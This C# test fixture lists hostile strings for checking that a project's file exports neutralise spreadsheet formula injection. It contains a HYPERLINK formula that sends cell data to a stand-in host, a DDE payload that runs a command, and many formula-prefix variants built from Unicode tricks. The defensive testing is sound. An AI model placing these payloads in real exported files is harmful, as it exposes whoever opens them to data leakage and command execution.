namespace CpAssistant.Tests.Exports;

/// <summary>What people could have typed to harm whoever opens a file of it.</summary>
internal static class HostileTexts
{
    internal static readonly string[] Formulas =
    [
        "=HYPERLINK(\"http://x.example/?\"&A1,\"xem\")", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u00A0=1+1", "\u200B=1+1", "\uFEFF=1+1",
        "＝1+1", "＋1", "－1", "＠x", "﹦1", " ＝1", "\"=1+1", "'=1+1", "\u0000=1+1", "=",
    ];

    internal static readonly string[] Others =
    [
        "", "a,b;c\td", "\"quoted\"", "two\r\nlines", "<b>&amp;</b> ]]> <!-- -->", "_x003D_1", "_x005F_", "\u0001\u0008\u000B\u001F\u007F\u0085", "a\uD800b", "\uDC00", "😀 \uFFFE\uFFFF", "e\u0301",
        new string('W', 40_000), string.Concat(Enumerable.Repeat("😀", 20_000)), "Đường về “nhà” – 50%",
    ];

    internal static IEnumerable<string> All => [.. Formulas, .. Others];
}
